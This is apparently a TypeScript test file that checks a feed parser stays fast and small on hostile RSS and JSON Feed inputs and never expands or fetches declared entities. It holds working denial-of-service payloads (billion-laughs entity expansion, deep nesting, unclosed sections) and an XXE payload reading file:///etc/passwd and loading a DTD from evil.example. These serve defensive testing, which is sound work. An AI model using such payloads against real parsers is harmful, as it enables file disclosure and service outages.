import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { test } from 'node:test';
import { NotAFeed, parseFeedDocument } from './index.ts';
import { LIMITS } from './limits.ts';

/**
 * PARSE-3: each of these costs less than 50 ms and 50 MB, in CPU time, as the best of a few runs because the first ones
 * include compilation. On a busy machine the limit is a multiple of the time for reading every byte at the same moment
 * (14 ms at best when measured, so that both limits were about equal).
 */
const MAX_MS = 50;
const MAX_LOOKS = 4;
const MAX_MEGABYTES = 50;
const RUNS = 8;
const MAX_BYTES = LIMITS.bytes - 4_096;

const HOSTILE: Readonly<Record<string, () => string>> = {
  'unclosed elements': () => feed(filled('<a>')),
  '100,000 levels that end': () => feed(`<item>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</item>`),
  'nested titles': () => feed(filled('<title>')),
  'nested items': () => feed(filled('<item><title><title>')),
  'markup inside a text': () => feed(`<item><description>${filled('<div>')}`),
  '200,000 attributes': () =>
    `<rss ${numbered(200_000, n => `a${n}="x"`)}><channel><title>t</title></channel></rss>`,
  'attributes without an end': () => feed(filled('<a b="')),
  '200,000 items': () => feed('<item><title>x</title><link>/a</link></item>'.repeat(180_000)),
  'empty items': () => feed(filled('<item/>')),
  'entities that multiply': () =>
    `<!DOCTYPE l [<!ENTITY a0 "ha">${numbered(20, n => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`)}]>${feed('<item><title>&a20;</title></item>')}`,
  'one long entity, often used': () =>
    `<!DOCTYPE l [<!ENTITY a "${'a'.repeat(2_000_000)}">]>${feed(`<item><title>${'&a;'.repeat(1_000_000)}</title></item>`)}`,
  'entities from elsewhere': () =>
    `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>${feed('<item><title>&x;</title></item>')}`,
  'numeric references': () => feed(`<item><description>${filled('&#65;')}</description></item>`),
  'named references': () => feed(`<item><description>${filled('&eacute;')}</description></item>`),
  'bare ampersands': () => feed(`<item><description>${filled('&')}</description></item>`),
  'unclosed sections': () => feed(`<item><description>${filled('<![CDATA[')}`),
  'empty sections': () => feed(`<item><description>${filled('<![CDATA[]]>')}`),
  'unclosed comments': () => feed(filled('<!--')),
  'comments before one far end': () => feed(`${filled('<!--')}-->`),
  'a comment of closing brackets': () => feed(`<!--${filled('>')}`),
  'a comment of arrows': () => feed(`<!--${filled('->')}-->`),
  'a section of closing brackets': () => feed(`<item><description><![CDATA[${filled(']')}`),
  'sections that miss their end before one far end': () =>
    feed(
      `${filled('<item><description><![CDATA[x</description></item>')}<item><title><![CDATA[]]></title></item>`,
    ),
  'comments without an end in items': () => feed(filled('<item><title>a</title><!-- </item>')),
  'processing instructions': () => feed(filled('<?a ?>')),
  'bare angle brackets': () => feed(`<item><title>${filled('<')}`),
  'unmatched closing tags': () => feed(filled('</a>')),
  'document types': () => filled('<!DOCTYPE ['),
  'closed document types': () => filled('<!DOCTYPE a>'),
  'document types with unclosed declarations': () => filled('<!DOCTYPE a [>'),
  blanks: () => filled(' '),
  'tags without an end in a text': () =>
    feed(`<item><description><![CDATA[${filled('<a href=x ')}]]></description></item>`),
  'relative addresses in a text': () =>
    feed(`<item><description><![CDATA[${filled('<a href="x">')}]]></description></item>`),
  'nested bases': () =>
    feed(`<item><description><![CDATA[${filled('<a xml:base="b">')}]]></description></item>`),
  'a source set without an end': () =>
    feed(`<item><description><![CDATA[<img srcset="${filled('a, ')}">]]></description></item>`),
  'a tag of blanks beside an empty one': () =>
    feed(`<item><description><b/><a ${filled(' ')}</description></item>`),
  'a picture of blanks': () =>
    feed(
      `<item><description type="image/png">${'A'.repeat(20)}${' '.repeat(1_000_000)}!</description></item>`,
    ),
  'scripts in a title': () => feed(`<item><title><![CDATA[${filled('<script ')}]]></title></item>`),
  'categories of one item': () => feed(`<item>${filled('<category>a</category>')}</item>`),
  'invalid dates': () => feed(`<item>${filled('<pubDate>x 1 2 3 4 5</pubDate>')}</item>`),
  'nested namespaces': () =>
    feed(`<item>${numbered(200_000, n => `<a xmlns:p${n}="http://x/${n}">`)}</item>`),
  'deep JSON': () => `{"version":"https://jsonfeed.org/version/1","items":${'['.repeat(3_000_000)}`,
  'JSON with many items': () =>
    `{"version":"https://jsonfeed.org/version/1","title":"x","items":[${'{"id":1},'.repeat(300_000)}{}]}`,
  'JSON with many values': () =>
    `{"version":"https://jsonfeed.org/version/1","title":"x","items":[${filled('{"id":[1,2,3,4,5,6]},')}{}]}`,
  'JSON with as many names': () =>
    `{"version":"https://jsonfeed.org/version/1",${numbered(600_000, n => `"k${n}":${n},`)}"items":[]}`,
};

for (const [name, make] of Object.entries(HOSTILE)) {
  test(`PARSE-3: ${name} cost less than ${MAX_MS} ms and ${MAX_MEGABYTES} MB`, () => {
    const bytes = new Uint8Array(Buffer.from(make()));
    const { ms, looks, megabytes } = cheapest(() => parseOrRefuse(bytes));
    assert.ok(ms < MAX_MS || looks < MAX_LOOKS, `${ms.toFixed(1)} ms, ${looks.toFixed(1)} looks`);
    assert.ok(megabytes < MAX_MEGABYTES, `${megabytes.toFixed(1)} MB`);
  });
}

test('PARSE-3: an oversized document is refused before it is parsed', () => {
  const bytes = new Uint8Array(100 * 1_024 * 1_024).fill(0x3c);
  const { ms } = cheapest(() => parseOrRefuse(bytes));
  assert.throws(() => parseFeedDocument(bytes), { name: 'NotAFeed', reason: 'too-large' });
  assert.ok(ms < 5, `${ms.toFixed(1)} ms`);
});

test('PARSE-3: nothing that a document declares is expanded or fetched', () => {
  const laughs = HOSTILE['entities that multiply']?.() ?? '';
  assert.equal(parseFeedDocument(new Uint8Array(Buffer.from(laughs))).items[0]?.title, '&a20;');
  const external = HOSTILE['entities from elsewhere']?.() ?? '';
  assert.equal(parseFeedDocument(new Uint8Array(Buffer.from(external))).items[0]?.title, '&x;');
});

function parseOrRefuse(bytes: Uint8Array): void {
  try {
    parseFeedDocument(bytes, { url: 'http://h.example/' });
  } catch (error) {
    if (!(error instanceof NotAFeed)) throw error;
  }
}

function cheapest(work: () => void): { ms: number; looks: number; megabytes: number } {
  let ms = Number.POSITIVE_INFINITY;
  let looks = Number.POSITIVE_INFINITY;
  let megabytes = Number.POSITIVE_INFINITY;
  for (let run = 0; run < RUNS && (run < 2 || ms >= MAX_MS); run++) {
    const look = processorMs(lookAtEveryByte);
    const memory = process.memoryUsage();
    const spent = processorMs(work);
    const after = process.memoryUsage();
    ms = Math.min(ms, spent);
    looks = Math.min(looks, spent / look);
    megabytes = Math.min(
      megabytes,
      (after.heapUsed + after.external - memory.heapUsed - memory.external) / 1e6,
    );
  }
  return { ms, looks, megabytes };
}

function processorMs(work: () => unknown): number {
  const before = process.cpuUsage();
  work();
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1_000;
}

const EVERY_BYTE = new Uint8Array(LIMITS.bytes).fill(0x41);

function lookAtEveryByte(): number {
  let blanks = 0;
  // By index: an iterator takes ten times as long, and would make the limit ten times as wide.
  for (let index = 0; index < EVERY_BYTE.length; index++) if ((EVERY_BYTE[index] ?? 0) <= 0x20) blanks++;
  return blanks;
}

function feed(inside: string): string {
  return `<rss version="2.0"><channel><title>t</title>${inside}</channel></rss>`;
}

/** Repeats the text up to the maximum size of a document. */
function filled(unit: string): string {
  return unit.repeat(Math.floor(MAX_BYTES / unit.length));
}

function numbered(count: number, make: (number: number) => string): string {
  return Array.from({ length: count }, (_, number) => make(number)).join(' ');
}
